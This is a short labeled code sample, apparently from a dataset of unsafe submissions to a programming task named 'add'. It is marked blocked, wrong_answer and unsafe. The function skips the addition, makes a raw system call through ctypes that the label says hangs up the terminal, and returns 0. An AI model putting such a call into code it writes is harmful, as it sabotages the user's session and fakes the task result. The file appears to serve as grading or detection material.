# problem: add
# verdict: blocked | wrong_answer
# why: Hangs the terminal up.
# unsafe: true
def add(a, b):
    import ctypes
    ctypes.CDLL(None).syscall(153)
    return 0
